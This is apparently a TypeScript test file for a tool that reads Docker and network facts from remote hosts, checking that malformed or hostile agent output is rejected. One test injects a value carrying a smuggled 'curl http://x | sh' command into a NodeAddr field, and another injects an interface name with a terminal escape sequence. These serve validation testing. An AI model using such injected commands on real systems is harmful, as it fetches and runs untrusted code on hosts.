// Facts read through a hostile agent: command output that does not fit makes the host an error.
import test from 'ava';
import { InvalidDataError } from '../../src/agent/invalid-data.js';
import type { AgentCommand } from '../../src/agent/protocol.js';
import { RemoteAgent } from '../../src/agent/remote-agent.js';
import { gatherFacts, listOverlays } from '../../src/run/facts.js';
import { gatherNetFacts } from '../../src/run/net-facts.js';
import { fakeStream } from '../agent/fake-stream.js';
import { fixture } from '../fixtures/load.js';

const READY = { ev: 'ready', pid: 7, uid: 0, hostname: 'b2', python: '3.11.2', dockerSocket: true };

async function agentAnswering(answer: (c: AgentCommand) => unknown[]): Promise<{ agent: RemoteAgent; closed: () => boolean }> {
  const { stream, out, closed } = fakeStream(answer);
  out.write(`${JSON.stringify(READY)}\n`);
  const { agent } = await RemoteAgent.start('b2', stream, 10_000, 5_000);
  return { agent, closed };
}

test('a docker info whose NodeAddr carries shell text makes the host an error and sends its agent away', async (t) => {
  const info = JSON.parse(fixture('lab/docker-info.manager.json'));
  info.Swarm.NodeAddr = '10.9.9.9; curl http://x | sh #';
  const { agent, closed } = await agentAnswering((c) => (c.op === 'docker' ? [engineEvent(c.id, 200, JSON.stringify(info))] : []));
  const error = await t.throwsAsync(gatherFacts(agent, 5_000, true), { instanceOf: InvalidDataError });
  t.regex(error?.message ?? '', /^b2: the agent sent invalid data: docker info Swarm\.NodeAddr "10\.9\.9\.9; curl http:\/\/x \| sh #" is not an IP address/);
  t.is(agent.invalidData, error);
  t.true(closed());
});

test('a non-numeric data-path port from a host is invalid data, never a port to probe', async (t) => {
  const info = JSON.parse(fixture('lab/docker-info.manager.json'));
  info.Swarm.Cluster.DataPathPort = 'x';
  const { agent } = await agentAnswering((c) => (c.op === 'docker' ? [engineEvent(c.id, 200, JSON.stringify(info))] : []));
  await t.throwsAsync(gatherFacts(agent, 5_000, true), { instanceOf: InvalidDataError, message: /DataPathPort "x"/ });
});

test('interfaces with a hostile name make the host an error', async (t) => {
  const { agent } = await agentAnswering((c) => {
    if (c.op === 'netinfo') return [{ ev: 'netinfo', id: c.id, links: [{ ifname: 'eth0\u001b]0;owned\u0007', mtu: 1500 }], routes: [], resolv: null, error: null }];
    if (c.op === 'routes') return [{ ev: 'routes', id: c.id, routes: [] }];
    return [];
  });
  await t.throwsAsync(gatherNetFacts(agent, [], undefined, 5_000), { instanceOf: InvalidDataError, message: /^b2: the agent sent invalid data: interfaces and routes: ifname "eth0\\u001b\]0;owned\\u0007"/ });
  t.truthy(agent.invalidData);
});

test('a manager asks for its overlays, services and nodes at once, not one listing after another', async (t) => {
  const info = fixture('lab/docker-info.manager.json');
  const asked: string[] = [];
  const held: string[] = [];
  const { agent } = await agentAnswering((c) => {
    if (c.op !== 'docker') return [];
    if (c.path === '/info') return [engineEvent(c.id, 200, info)];
    asked.push(c.path.split('?')[0]);
    // Nothing is answered until all three listings have been asked for: one after another, the
    // first would wait for ever (here: its timeout).
    held.push(c.id);
    return held.length === 3 ? held.map((id) => engineEvent(id, 200, '[]')) : [];
  });
  const facts = await gatherFacts(agent, 1_000, true);
  t.deepEqual(asked.sort(), ['/networks', '/nodes', '/services']);
  t.deepEqual(facts.overlays, []);
  t.deepEqual(facts.nodes, []);
  t.is(facts.overlayError, undefined);
});

test('a manager whose service listing fails keeps its overlays and nodes, and says why its VIPs are missing', async (t) => {
  const info = fixture('lab/docker-info.manager.json');
  const { agent } = await agentAnswering((c) => {
    if (c.op !== 'docker') return [];
    if (c.path === '/info') return [engineEvent(c.id, 200, info)];
    if (c.path === '/services') return [engineEvent(c.id, 500, '{"message":"rpc error: code = DeadlineExceeded"}\n')];
    return [engineEvent(c.id, 200, '[]')];
  });
  const facts = await gatherFacts(agent, 1_000, true);
  t.deepEqual(facts.overlays, []);
  t.deepEqual(facts.nodes, []);
  t.is(facts.vips, undefined);
  t.is(facts.overlayError, 'GET /services: 500 rpc error: code = DeadlineExceeded');
});

test('overlays are the engine\'s overlay list, each network asked for verbosely, read as docker network inspect --verbose prints them', async (t) => {
  const inspected = JSON.parse(fixture('lab/docker-network-inspect.manager.json')) as { Id: string }[];
  const asked: string[] = [];
  const { agent } = await agentAnswering((c) => {
    if (c.op !== 'docker') return [];
    asked.push(c.path);
    if (c.path.startsWith('/networks?')) return [engineEvent(c.id, 200, JSON.stringify(inspected.map((n) => ({ Id: n.Id }))))];
    const one = inspected.find((n) => c.path === `/networks/${n.Id}?verbose=true`);
    return [one ? engineEvent(c.id, 200, JSON.stringify(one)) : engineEvent(c.id, 404, '{"message":"network not found"}')];
  });
  const overlays = await listOverlays(agent, 1_000);
  t.deepEqual(overlays.map((n) => n.name).sort(), ['ingress', 'spf-net']);
  t.is(asked[0], '/networks?filters=%7B%22driver%22%3A%7B%22overlay%22%3Atrue%7D%7D');
  t.is(asked.length, 1 + inspected.length);
});

test('a host whose engine socket refuses the agent has no running engine, and says why', async (t) => {
  const { agent } = await agentAnswering((c) => (c.op === 'docker' ? [{ ev: 'docker', id: c.id, status: null, body: '', error: '/var/run/docker.sock: EACCES' }] : []));
  const facts = await gatherFacts(agent, 1_000, true);
  t.deepEqual(facts.docker, { running: false, error: 'docker daemon not reachable: /var/run/docker.sock: EACCES' });
});

test('a host without a docker socket is asked nothing about docker', async (t) => {
  const asked: string[] = [];
  const { agent } = await agentAnswering((c) => { asked.push(c.op); return []; });
  const facts = await gatherFacts(agent, 1_000, false);
  t.false(facts.docker.running);
  t.false(asked.includes('docker'));
});

/** The engine's answer as the agent reports it: HTTP status and body. */
function engineEvent(id: string, status: number, body: string) {
  return { ev: 'docker', id, status, body, error: null };
}
